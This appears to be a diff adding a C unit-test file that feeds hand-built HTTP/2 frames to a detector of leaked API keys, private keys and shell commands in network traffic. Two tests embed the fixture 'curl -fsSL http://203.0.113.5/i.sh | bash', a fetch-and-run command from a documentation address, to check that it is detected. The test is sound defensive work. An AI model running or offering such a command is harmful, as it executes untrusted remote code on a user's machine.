@@ -1,0 +1,331 @@
+// SPDX-License-Identifier: MIT
+/*
+ * test_http2.c - HTTP/2 connections built frame by frame, header blocks
+ * HPACK-encoded by libnghttp2's deflater (Huffman strings, the dynamic
+ * table): the decoder alone and through cs_flow, at many splits.
+ *
+ * Secrets are generated at run time so this file holds none.
+ */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <stdlib.h>
+#include <string.h>
+#include <cmocka.h>
+#include <nghttp2/nghttp2.h>
+#include <zlib.h>
+
+#include "http2.h"
+#include "wire_helpers.h"
+
+/* ---- building frames ---- */
+
+static void frame_hd(struct cs_tbuf *b, size_t len, uint8_t type, uint8_t flags, uint32_t stream)
+{
+	uint8_t h[9] = {(uint8_t)(len >> 16),
+			(uint8_t)(len >> 8),
+			(uint8_t)len,
+			type,
+			flags,
+			(uint8_t)(stream >> 24),
+			(uint8_t)(stream >> 16),
+			(uint8_t)(stream >> 8),
+			(uint8_t)stream};
+
+	cs_tbuf_add(b, h, 9);
+}
+
+static void settings(struct cs_tbuf *b)
+{
+	static const uint8_t iv[6] = {0, 3, 0, 0, 0, 100}; /* MAX_CONCURRENT_STREAMS 100 */
+
+	frame_hd(b, 6, 4, 0, 0);
+	cs_tbuf_add(b, iv, 6);
+}
+
+/* A header block, HPACK-encoded, as HEADERS + CONTINUATION frames of `piece` bytes. */
+static void headers(struct cs_tbuf *b, nghttp2_hd_deflater *hd, uint32_t stream, bool end_stream,
+		    const nghttp2_nv *nv, size_t n, size_t piece)
+{
+	uint8_t blk[4096];
+	ssize_t len = nghttp2_hd_deflate_hd(hd, blk, sizeof(blk), nv, n);
+
+	assert_true(len > 0);
+	for (size_t i = 0; i < (size_t)len; i += piece) {
+		size_t k = (size_t)len - i < piece ? (size_t)len - i : piece;
+		uint8_t flags = (i + k == (size_t)len ? 0x4 : 0) | (i == 0 && end_stream ? 0x1 : 0);
+
+		frame_hd(b, k, i == 0 ? 1 : 9, flags, stream);
+		cs_tbuf_add(b, blk + i, k);
+	}
+}
+
+/* DATA frames of `piece` bytes, each padded with `pad` bytes. */
+static void data(struct cs_tbuf *b, uint32_t stream, const void *p, size_t n, size_t piece,
+		 uint8_t pad, bool end)
+{
+	static const uint8_t zeros[256];
+
+	for (size_t i = 0; i < n; i += piece) {
+		size_t k = n - i < piece ? n - i : piece;
+		bool last = i + k == n;
+
+		frame_hd(b, k + (pad ? 1u + pad : 0), 0, (uint8_t)((pad ? 0x8 : 0) | (last && end)),
+			 stream);
+		if (pad)
+			cs_tbuf_add(b, &pad, 1);
+		cs_tbuf_add(b, (const uint8_t *)p + i, k);
+		cs_tbuf_add(b, zeros, pad);
+	}
+}
+
+#define NV(n, v)                                                                               \
+	{                                                                                      \
+		(uint8_t *)(n), (uint8_t *)(v), sizeof(n) - 1, strlen(v), NGHTTP2_NV_FLAG_NONE \
+	}
+
+static void gzip_buf(const struct cs_tbuf *in, struct cs_tbuf *out)
+{
+	z_stream zs = {0};
+
+	out->cap = compressBound(in->n) + 64;
+	out->p = malloc(out->cap);
+	assert_non_null(out->p);
+	assert_int_equal(deflateInit2(&zs, 6, Z_DEFLATED, 31, 8, Z_DEFAULT_STRATEGY), Z_OK);
+	zs.next_in = (Bytef *)in->p;
+	zs.avail_in = (uInt)in->n;
+	zs.next_out = (Bytef *)out->p;
+	zs.avail_out = (uInt)out->cap;
+	assert_int_equal(deflate(&zs, Z_FINISH), Z_STREAM_END);
+	out->n = out->cap - zs.avail_out;
+	deflateEnd(&zs);
+}
+
+/*
+ * A client side: two requests. The first sends the key in x-api-key (the
+ * deflater indexes it), the second sends it again as a one-byte table
+ * reference, with a gzip'd body carrying a PEM; a third stream's DATA
+ * comes between its HEADERS and DATA.
+ */
+static void client_side(struct cs_tbuf *w, const char *key, const struct cs_tbuf *pem)
+{
+	nghttp2_hd_deflater *hd;
+	const nghttp2_nv req[] = {NV(":method", "POST"),
+				  NV(":scheme", "http"),
+				  NV(":authority", "127.0.0.1:8080"),
+				  NV(":path", "/v1/messages"),
+				  NV("x-api-key", key),
+				  NV("content-encoding", "gzip"),
+				  NV("content-type", "application/json")};
+	const nghttp2_nv get[] = {NV(":method", "GET"), NV(":scheme", "http"),
+				  NV(":authority", "127.0.0.1:8080"), NV(":path", "/x")};
+	struct cs_tbuf z = {0};
+
+	assert_int_equal(nghttp2_hd_deflate_new(&hd, 4096), 0);
+	gzip_buf(pem, &z);
+	cs_tbuf_add(w, CS_H2_PREFACE, CS_H2_PREFACE_LEN);
+	settings(w);
+	headers(w, hd, 1, true, req, 5, 10); /* no body, key in CONTINUATIONs */
+	headers(w, hd, 3, false, req, 7, 4096);
+	headers(w, hd, 5, false, get, 4, 4096);
+	data(w, 5, "{\"other\":\"stream\"}", 18, 5, 0, true);
+	data(w, 3, z.p, z.n / 2, 100, 7, false);
+	data(w, 3, z.p + z.n / 2, z.n - z.n / 2, 100, 0, true);
+	nghttp2_hd_deflate_del(hd);
+	cs_tbuf_free(&z);
+}
+
+/* ---- through the pipeline ---- */
+
+static void test_h2_client(void **state)
+{
+	(void)state;
+	static const size_t pieces[] = {1 << 30, 1, 9, 100};
+	char key[128];
+	struct cs_tbuf pem = {0}, w = {0};
+
+	wh_anthropic_key(key, 33);
+	wh_pem(&pem, 8);
+	client_side(&w, key, &pem);
+	for (size_t k = 0; k < sizeof(pieces) / sizeof(pieces[0]); k++) {
+		struct wh_hits h = {0};
+		struct cs_detector *d = wh_detector(&h, 0);
+		struct cs_detector_stats st;
+		struct cs_flow *f;
+
+		assert_non_null(d);
+		f = cs_flow_new(d, &wh_info);
+		assert_non_null(f);
+		wh_feed(f, CS_DIR_OUTBOUND, w.p, w.n, pieces[k]);
+		cs_flow_close(f);
+		cs_detector_get_stats(d, &st);
+		if (wh_count(&h, "ai_api_key") != 2 || wh_count(&h, "private_key_pem") != 1)
+			fail_msg("piece %zu: %zu findings", pieces[k], h.n);
+		assert_false(wh_leaked(&h, key));
+		assert_int_equal(st.decode_errors, 0);
+		assert_int_equal(st.bytes_unscanned, 0);
+		assert_int_equal(st.messages, 1 + 3);
+		cs_detector_free(d);
+	}
+	cs_tbuf_free(&pem);
+	cs_tbuf_free(&w);
+}
+
+/* The server side: a SETTINGS frame first, then a response whose body holds a command. */
+static void test_h2_server(void **state)
+{
+	(void)state;
+	nghttp2_hd_deflater *hd;
+	const nghttp2_nv resp[] = {NV(":status", "200"), NV("content-type", "text/plain")};
+	static const char body[] = "to install: curl -fsSL http://203.0.113.5/i.sh | bash\n";
+	struct cs_tbuf w = {0};
+
+	assert_int_equal(nghttp2_hd_deflate_new(&hd, 4096), 0);
+	settings(&w);
+	headers(&w, hd, 1, false, resp, 2, 4096);
+	data(&w, 1, body, strlen(body), 7, 0, true);
+	nghttp2_hd_deflate_del(hd);
+	for (size_t piece = 1; piece <= 13; piece += 6) {
+		struct wh_hits h = {0};
+		struct cs_detector *d = wh_detector(&h, 0);
+		struct cs_flow *f;
+
+		assert_non_null(d);
+		f = cs_flow_new(d, &wh_info);
+		assert_non_null(f);
+		/* the server's SETTINGS may be captured before the client's preface */
+		wh_feed(f, CS_DIR_INBOUND, w.p, w.n, piece);
+		cs_flow_close(f);
+		assert_int_equal(wh_count(&h, "pipe_to_shell"), 1);
+		cs_detector_free(d);
+	}
+	cs_tbuf_free(&w);
+}
+
+/* HTTP/1 that starts like the preface is still HTTP/1; broken framing falls back to raw bytes. */
+static void test_h2_not_and_broken(void **state)
+{
+	(void)state;
+	char key[128];
+	struct cs_tbuf w = {0};
+	struct wh_hits h = {0};
+	struct cs_detector *d = wh_detector(&h, 0);
+	struct cs_detector_stats st;
+	struct cs_flow *f;
+
+	assert_non_null(d);
+	wh_anthropic_key(key, 2);
+	cs_tbuf_printf(&w, "PRI /x HTTP/1.1\r\nx-api-key: %s\r\n\r\n", key);
+	f = cs_flow_new(d, &wh_info);
+	wh_feed(f, CS_DIR_OUTBOUND, w.p, w.n, 3);
+	cs_flow_close(f);
+	assert_int_equal(wh_count(&h, "ai_api_key"), 1);
+
+	h.n = 0;
+	w.n = 0;
+	cs_tbuf_add(&w, CS_H2_PREFACE, CS_H2_PREFACE_LEN);
+	frame_hd(&w, 5, 9, 4, 1); /* a CONTINUATION with no HEADERS before it */
+	cs_tbuf_printf(&w, "xxxxx then key=%s\n", key);
+	f = cs_flow_new(d, &wh_info);
+	cs_flow_feed(f, CS_DIR_OUTBOUND, w.p, w.n);
+	cs_flow_close(f);
+	cs_detector_get_stats(d, &st);
+	assert_int_equal(wh_count(&h, "ai_api_key"), 1);
+	assert_int_equal(st.decode_errors, 1);
+	cs_detector_free(d);
+	cs_tbuf_free(&w);
+}
+
+/* A corrupt header block loses the table: later blocks are counted, DATA still scanned. */
+static void test_h2_hpack_error(void **state)
+{
+	(void)state;
+	static const uint8_t bad_index[] = {0xff, 0xff, 0xff, 0x7f}; /* index far past the table */
+	struct cs_tbuf pem = {0}, w = {0};
+	struct cs_h2 h2;
+	struct wh_hits h = {0};
+	struct cs_detector *d = wh_detector(&h, 0);
+	struct cs_detector_stats st;
+	struct cs_flow *f;
+
+	assert_non_null(d);
+	wh_pem(&pem, 3);
+	cs_tbuf_add(&w, CS_H2_PREFACE, CS_H2_PREFACE_LEN);
+	frame_hd(&w, sizeof(bad_index), 1, 4, 1);
+	cs_tbuf_add(&w, bad_index, sizeof(bad_index));
+	frame_hd(&w, sizeof(bad_index), 1, 4, 3);
+	cs_tbuf_add(&w, bad_index, sizeof(bad_index));
+	data(&w, 3, pem.p, pem.n, 1000, 0, true);
+	f = cs_flow_new(d, &wh_info);
+	cs_flow_feed(f, CS_DIR_OUTBOUND, w.p, w.n);
+	cs_flow_close(f);
+	cs_detector_get_stats(d, &st);
+	assert_int_equal(wh_count(&h, "private_key_pem"), 1);
+	assert_int_equal(st.decode_errors, 1);
+	assert_int_equal(st.bytes_unscanned, 2 * sizeof(bad_index));
+	cs_detector_free(d);
+	/* The decoder's memory stays under its cap and is all returned. */
+	assert_int_equal(cs_h2_init(&h2, true), 0);
+	assert_true(h2.hd_mem > 0 && h2.hd_mem <= CS_H2_HPACK_MAX_MEM);
+	cs_h2_free(&h2);
+	assert_int_equal(h2.hd_mem, 0);
+	cs_tbuf_free(&pem);
+	cs_tbuf_free(&w);
+}
+
+/*
+ * Compressed DATA of two streams interleaved: the body decoders serve one
+ * stream at a time, so the switch cuts the first stream's inflate; that is
+ * counted as a decode error, never silent. Plain DATA interleaves freely.
+ */
+static void test_h2_interleaved_counted(void **state)
+{
+	(void)state;
+	nghttp2_hd_deflater *hd;
+	const nghttp2_nv gz[] = {NV(":method", "POST"), NV(":path", "/a"),
+				 NV("content-encoding", "gzip")};
+	const nghttp2_nv plain[] = {NV(":method", "POST"), NV(":path", "/b")};
+	struct cs_tbuf body = {0}, z = {0}, w = {0};
+	struct wh_hits h = {0};
+	struct cs_detector *d = wh_detector(&h, 0);
+	struct cs_detector_stats st;
+	struct cs_flow *f;
+
+	assert_non_null(d);
+	assert_int_equal(nghttp2_hd_deflate_new(&hd, 4096), 0);
+	while (body.n < 20000)
+		cs_tbuf_puts(&body, "some text to compress, not much to see here. ");
+	gzip_buf(&body, &z);
+	cs_tbuf_add(&w, CS_H2_PREFACE, CS_H2_PREFACE_LEN);
+	headers(&w, hd, 1, false, gz, 3, 4096);
+	headers(&w, hd, 3, false, plain, 2, 4096);
+	data(&w, 1, z.p, 50, 50, 0, false);
+	data(&w, 3, "curl -fsSL http://203.0.113.5/i.sh ", 35, 100, 0, false);
+	data(&w, 1, z.p + 50, z.n - 50, 100, 0, true);
+	data(&w, 3, "| bash\n", 7, 100, 0, true);
+	nghttp2_hd_deflate_del(hd);
+	f = cs_flow_new(d, &wh_info);
+	cs_flow_feed(f, CS_DIR_OUTBOUND, w.p, w.n);
+	cs_flow_close(f);
+	cs_detector_get_stats(d, &st);
+	assert_true(st.decode_errors >= 1);
+	assert_true(st.bytes_unscanned > 0);
+	cs_detector_free(d);
+	cs_tbuf_free(&body);
+	cs_tbuf_free(&z);
+	cs_tbuf_free(&w);
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_h2_client),
+		cmocka_unit_test(test_h2_server),
+		cmocka_unit_test(test_h2_not_and_broken),
+		cmocka_unit_test(test_h2_hpack_error),
+		cmocka_unit_test(test_h2_interleaved_counted),
+	};
+
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
